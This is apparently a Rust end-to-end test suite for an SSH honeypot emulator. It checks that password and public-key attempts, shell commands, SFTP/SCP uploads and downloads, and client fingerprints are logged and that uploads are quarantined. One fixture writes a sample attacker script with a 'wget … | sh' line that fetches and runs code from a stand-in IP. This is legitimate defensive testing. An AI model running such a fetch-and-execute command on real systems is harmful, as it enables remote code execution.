//! The ssh emulator against Debian's OpenSSH client (`ssh`, `sftp`, `scp`, `ssh-keygen`) and
//! `nmap -sV`. Passwords are typed by an SSH_ASKPASS script, so no extra package is needed.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)] // test code

use std::{
    io::Write,
    path::{Path, PathBuf},
    process::{Command, Output, Stdio},
};

use decnet_e2e::{Decky, assert_neutral, msgid, sd_param};

/// A client side: a scratch HOME, an askpass script and the options that keep OpenSSH from
/// asking questions or reading the user's own configuration and keys.
struct Client {
    dir: tempfile::TempDir,
    port: u16,
}

impl Client {
    /// `passwords` are typed in order, the last one again for any further prompt.
    fn new(port: u16, passwords: &[&str]) -> Self {
        let dir = tempfile::tempdir().unwrap();
        let mut script = String::from(
            "#!/bin/sh\nn=$(cat \"$0.count\" 2>/dev/null || echo 0)\necho $((n + 1)) > \"$0.count\"\ncase $n in\n",
        );
        for (i, p) in passwords.iter().enumerate() {
            script.push_str(&format!("  {i}) echo '{p}' ;;\n"));
        }
        script.push_str(&format!(
            "  *) echo '{}' ;;\nesac\n",
            passwords.last().unwrap()
        ));
        // Not /dev/null: these files must stay empty whatever else runs on the machine.
        std::fs::write(dir.path().join("config"), "").unwrap();
        let askpass = dir.path().join("askpass");
        std::fs::write(&askpass, script).unwrap();
        std::fs::set_permissions(
            &askpass,
            std::os::unix::fs::PermissionsExt::from_mode(0o700),
        )
        .unwrap();
        Self { dir, port }
    }

    fn path(&self, name: &str) -> PathBuf {
        self.dir.path().join(name)
    }

    fn options(&self, pubkey: bool) -> Vec<String> {
        let mut o: Vec<String> = vec![
            "-F".into(),
            self.path("config").to_string_lossy().into_owned(),
            "-o".into(),
            format!("UserKnownHostsFile={}", self.path("known_hosts").display()),
        ];
        o.extend(
            [
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "LogLevel=error",
                "-o",
                "ConnectTimeout=10",
                "-o",
                "BatchMode=no",
            ]
            .iter()
            .map(|s| (*s).to_owned()),
        );
        if !pubkey {
            o.extend(["-o".into(), "PubkeyAuthentication=no".into()]);
        }
        o
    }

    fn command(&self, program: &str) -> Command {
        let mut c = Command::new(program);
        c.env("HOME", self.dir.path())
            .env("SSH_ASKPASS", self.path("askpass"))
            .env("SSH_ASKPASS_REQUIRE", "force")
            .env("DISPLAY", ":0")
            .env_remove("SSH_AUTH_SOCK");
        c
    }

    fn ssh(&self, extra: &[&str], stdin: Option<&[u8]>) -> Output {
        let mut c = self.command("ssh");
        c.args(self.options(extra.contains(&"-i")))
            .args(["-p", &self.port.to_string()])
            .args(extra)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let mut child = c.spawn().unwrap_or_else(|e| {
            panic!("ssh (openssh-client) is installed by scripts/test.sh: {e}")
        });
        let mut input = child.stdin.take().unwrap();
        if let Some(bytes) = stdin {
            input.write_all(bytes).unwrap();
        }
        drop(input);
        child.wait_with_output().unwrap()
    }

    fn run(&self, program: &str, args: &[&str]) -> Output {
        let out = self
            .command(program)
            .args(self.options(false))
            .args(args)
            .stdin(Stdio::null())
            .output()
            .unwrap_or_else(|e| {
                panic!("{program} (openssh-client) is installed by scripts/test.sh: {e}")
            });
        assert!(
            out.status.success(),
            "{program} failed:\n{}\n{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        out
    }
}

fn text(out: &Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

fn sha256_of(path: &Path) -> String {
    let out = Command::new("sha256sum").arg(path).output().unwrap();
    text(&out).split_whitespace().next().unwrap().to_owned()
}

fn quarantine() -> (tempfile::TempDir, String) {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("q").to_string_lossy().into_owned();
    (dir, path)
}

fn of_kind<'a>(lines: &'a [String], kind: &str) -> Vec<&'a String> {
    lines.iter().filter(|l| msgid(l) == Some(kind)).collect()
}

fn disconnects(lines: &[String]) -> usize {
    lines.iter().filter(|l| l.contains(" disconnect ")).count()
}

#[test]
fn exec_and_interactive_sessions_are_captured() {
    let (_keep, q) = quarantine();
    let decky = Decky::start(
        "ssh",
        &[("DISTRO", "debian"), ("QUARANTINE_DIR", q.as_str())],
    );
    let client = Client::new(decky.port, &["letmein", "admin"]);
    let out = client.ssh(&["root@127.0.0.1", "uname -a; id"], None);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let exec = text(&out);
    assert_eq!(
        exec,
        "Linux SRV-WEB-42 6.1.0-27-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.115-1 (2024-11-01) x86_64 GNU/Linux\nuid=0(root) gid=0(root) groups=0(root)\n"
    );

    let out = client.ssh(&["-tt", "root@127.0.0.1"], Some(b"cd /etc\nwhoami\nexit\n"));
    let shell = text(&out);
    assert!(out.status.success(), "{shell}");
    assert!(
        shell.contains("Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY"),
        "{shell}"
    );
    assert!(shell.contains("Last login: "), "{shell}");
    assert!(
        shell.contains("root@SRV-WEB-42:/etc# whoami\r\nroot\r\n"),
        "{shell}"
    );
    assert!(shell.contains("logout"), "{shell}");

    let lines = decky.wait_for(|l| disconnects(l) >= 2);
    let clients = of_kind(&lines, "ssh_client");
    assert_eq!(clients.len(), 2, "{lines:#?}");
    assert!(
        sd_param(clients[0], "client_version")
            .unwrap()
            .starts_with("SSH-2.0-OpenSSH_")
    );
    let hassh = sd_param(clients[0], "hassh").unwrap();
    assert!(hassh.len() == 32 && hassh.bytes().all(|b| b.is_ascii_hexdigit()));
    assert!(
        sd_param(clients[0], "hassh_algorithms")
            .unwrap()
            .contains("curve25519-sha256")
    );
    assert_eq!(of_kind(&lines, "ssh_negotiated").len(), 2);

    let auths = of_kind(&lines, "auth_attempt");
    assert_eq!(auths.len(), 3, "{lines:#?}");
    assert_eq!(sd_param(auths[0], "username").as_deref(), Some("root"));
    assert_eq!(sd_param(auths[0], "method").as_deref(), Some("password"));
    assert_eq!(sd_param(auths[0], "password").as_deref(), Some("letmein"));
    assert_eq!(sd_param(auths[0], "success").as_deref(), Some("false"));
    assert_eq!(sd_param(auths[1], "password").as_deref(), Some("admin"));
    assert_eq!(sd_param(auths[1], "success").as_deref(), Some("true"));
    assert_eq!(sd_param(auths[2], "success").as_deref(), Some("true"));
    for line in &auths {
        assert_eq!(sd_param(line, "src_ip").as_deref(), Some("127.0.0.1"));
        assert!(sd_param(line, "src_port").unwrap().parse::<u16>().is_ok());
        assert_eq!(
            sd_param(line, "dst_port").as_deref(),
            Some(decky.port.to_string().as_str())
        );
    }

    let commands: Vec<String> = of_kind(&lines, "command")
        .iter()
        .filter_map(|l| sd_param(l, "cmd"))
        .collect();
    assert_eq!(commands, ["uname -a; id", "cd /etc", "whoami", "exit"]);

    let transcripts = of_kind(&lines, "transcript");
    assert_eq!(transcripts.len(), 1, "{lines:#?}");
    let stored = sd_param(transcripts[0], "stored_as").unwrap();
    assert!(stored.ends_with(".cast"), "{stored}");
    let cast = std::fs::read_to_string(Path::new(&q).join(&stored)).unwrap();
    assert_eq!(
        sd_param(transcripts[0], "bytes").unwrap(),
        cast.len().to_string()
    );
    let header: serde_json::Value = serde_json::from_str(cast.lines().next().unwrap()).unwrap();
    assert_eq!(header["version"], 2);
    assert!(cast.contains("\"o\"") && cast.contains("\"i\"") && cast.contains("whoami"));

    assert_neutral(&lines);
    assert_neutral(&[exec, shell]);
}

#[test]
fn sftp_and_scp_uploads_are_quarantined() {
    let (_keep, q) = quarantine();
    let decky = Decky::start("ssh", &[("QUARANTINE_DIR", q.as_str())]);
    let client = Client::new(decky.port, &["admin"]);
    let port = decky.port.to_string();
    let payload = client.path("kit.sh");
    std::fs::write(
        &payload,
        format!(
            "#!/bin/sh\n# {}\nwget http://203.0.113.9/x -O- | sh\n",
            std::process::id()
        ),
    )
    .unwrap();
    let sha = sha256_of(&payload);
    let local = payload.to_string_lossy().into_owned();

    let batch = client.path("batch");
    std::fs::write(
        &batch,
        format!(
            "put {local} /tmp/sftp.sh\nls -l /tmp\nget /etc/hostname {}\n",
            client.path("hostname").display()
        ),
    )
    .unwrap();
    let out = client.run(
        "sftp",
        &[
            "-P",
            &port,
            "-b",
            &batch.to_string_lossy(),
            "root@127.0.0.1",
        ],
    );
    assert!(text(&out).contains("/tmp/sftp.sh"), "{}", text(&out));
    assert_eq!(
        std::fs::read_to_string(client.path("hostname")).unwrap(),
        "SRV-WEB-42\n"
    );
    client.run("scp", &["-P", &port, &local, "root@127.0.0.1:/tmp/scp.sh"]);
    client.run("scp", &["-O", "-P", &port, &local, "root@127.0.0.1:/tmp/"]);
    let fetched = client.path("passwd");
    client.run(
        "scp",
        &[
            "-O",
            "-P",
            &port,
            "root@127.0.0.1:/etc/passwd",
            &fetched.to_string_lossy(),
        ],
    );
    assert!(
        std::fs::read_to_string(&fetched)
            .unwrap()
            .starts_with("root:x:0:0:root:/root:/bin/bash\n")
    );

    let lines = decky.wait_for(|l| of_kind(l, "upload").len() >= 3 && disconnects(l) >= 4);
    let uploads = of_kind(&lines, "upload");
    assert_eq!(uploads.len(), 3, "{lines:#?}");
    let seen: Vec<(String, String)> = uploads
        .iter()
        .map(|l| (sd_param(l, "path").unwrap(), sd_param(l, "method").unwrap()))
        .collect();
    assert_eq!(
        seen,
        [
            ("/tmp/sftp.sh".to_owned(), "sftp".to_owned()),
            ("/tmp/scp.sh".to_owned(), "sftp".to_owned()),
            ("/tmp/kit.sh".to_owned(), "scp".to_owned()),
        ]
    );
    let size = std::fs::metadata(&payload).unwrap().len().to_string();
    for line in &uploads {
        assert_eq!(sd_param(line, "sha256").as_deref(), Some(sha.as_str()));
        assert_eq!(sd_param(line, "stored_as").as_deref(), Some(sha.as_str()));
        assert_eq!(sd_param(line, "size").as_deref(), Some(size.as_str()));
        assert_eq!(sd_param(line, "truncated").as_deref(), Some("false"));
        assert_eq!(sd_param(line, "src_ip").as_deref(), Some("127.0.0.1"));
    }
    assert_eq!(
        std::fs::read(Path::new(&q).join(&sha)).unwrap(),
        std::fs::read(&payload).unwrap()
    );
    let commands: Vec<String> = of_kind(&lines, "command")
        .iter()
        .filter_map(|l| sd_param(l, "cmd"))
        .collect();
    assert_eq!(commands.len(), 2);
    assert!(
        commands[0].starts_with("scp ") && commands[0].contains(" -t "),
        "{commands:?}"
    );
    assert!(
        commands[1].starts_with("scp ") && commands[1].contains(" -f "),
        "{commands:?}"
    );
    let downloads: Vec<(String, String)> = of_kind(&lines, "download")
        .iter()
        .map(|l| (sd_param(l, "path").unwrap(), sd_param(l, "method").unwrap()))
        .collect();
    assert_eq!(
        downloads,
        [
            ("/etc/hostname".to_owned(), "sftp".to_owned()),
            ("/etc/passwd".to_owned(), "scp".to_owned()),
        ]
    );
    assert_neutral(&lines);
}

#[test]
fn publickey_attempts_are_fingerprinted() {
    let decky = Decky::start("ssh", &[]);
    let client = Client::new(decky.port, &["admin"]);
    let key = client.path("id_ed25519");
    let status = Command::new("ssh-keygen")
        .args(["-q", "-t", "ed25519", "-N", "", "-C", "", "-f"])
        .arg(&key)
        .status()
        .unwrap();
    assert!(status.success());
    let listed = Command::new("ssh-keygen")
        .arg("-lf")
        .arg(&key)
        .output()
        .unwrap();
    let fingerprint = text(&listed).split_whitespace().nth(1).unwrap().to_owned();
    let out = client.ssh(
        &[
            "-i",
            &key.to_string_lossy(),
            "-o",
            "IdentitiesOnly=yes",
            "-o",
            "PasswordAuthentication=no",
            "root@127.0.0.1",
            "id",
        ],
        None,
    );
    assert!(!out.status.success());
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("Permission denied (publickey,password)"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let lines = decky.wait_for(|l| disconnects(l) >= 1);
    let auths = of_kind(&lines, "auth_attempt");
    assert_eq!(auths.len(), 1, "{lines:#?}");
    assert_eq!(sd_param(auths[0], "method").as_deref(), Some("publickey"));
    assert_eq!(
        sd_param(auths[0], "key_type").as_deref(),
        Some("ssh-ed25519")
    );
    assert_eq!(sd_param(auths[0], "key_fingerprint"), Some(fingerprint));
    assert_eq!(sd_param(auths[0], "success").as_deref(), Some("false"));
    assert_neutral(&lines);
}

#[test]
fn nmap_identifies_debian_openssh() {
    let decky = Decky::start("ssh", &[]);
    let Some(line) = decnet_e2e::nmap_version_row(decky.port) else {
        return;
    };
    assert!(line.contains("OpenSSH 9.2p1 Debian 2+deb12u3"), "{line}");
}
